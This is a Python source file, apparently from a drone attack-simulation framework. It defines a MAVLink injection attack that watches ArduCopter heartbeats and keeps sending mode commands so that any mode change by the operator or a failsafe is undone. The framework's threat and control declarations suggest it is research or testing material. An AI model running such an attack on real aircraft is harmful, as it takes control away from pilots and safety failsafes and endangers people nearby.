"""Fight for the mode: the aircraft is taken back to one mode whenever its heartbeats show another."""

from __future__ import annotations

from skyrange.attack.bases.mavlink.injection import Injection
from skyrange.attack.bases.mavlink.orders import AUTOPILOT, Order, mode_order
from skyrange.attack.bases.mavlink.params import CopterMode, copter_mode
from skyrange.attack.declaration import attack
from skyrange.attack.presets import CONTROL_LINKS, on_control_link, sham_to_nobody
from skyrange.codec.mavlink import Message
from skyrange.contracts.params import Number
from skyrange.contracts.plugins.fields import param
from skyrange.core.time import Time


@attack(
    "mavlink.mode",
    technique="T0858",
    surface=CONTROL_LINKS,
    persists="mode",
    effect="no mode that the operator or a failsafe commands lasts",
    threat=on_control_link(
        "system ids, and the mode that heartbeats tell",
        budget="a command for each change of mode, at most one in every_s",
    ),
    controls=sham_to_nobody(
        content="mavlink.command with the same mode, once", placement="the same attack on another aircraft"
    ),
)
class HeldMode(Injection):
    """Watches the mode of the aircraft and takes it back to one mode whenever the operator or a failsafe changes it."""

    reads = ("HEARTBEAT",)

    mode: CopterMode = param(
        "Mode of ArduCopter by name, such as 'LOITER', 'BRAKE', 'LAND' or 'RTL'.", default="LOITER"
    )
    every_s: Number = param("Least time between two commands, in seconds.", default=0.2, ge=0.02, le=60)
    shown: int = -1
    """The mode in the last heartbeat."""

    def on_message(self, now: Time, message: Message) -> None:
        """Learn the mode."""
        if message.get_srcComponent() == AUTOPILOT:
            self.shown = message.custom_mode

    def orders(self, now: Time) -> list[Order]:
        """The mode, if the aircraft is in another one."""
        mode = copter_mode(self.mode)
        return [] if self.shown == mode else [mode_order(mode)]
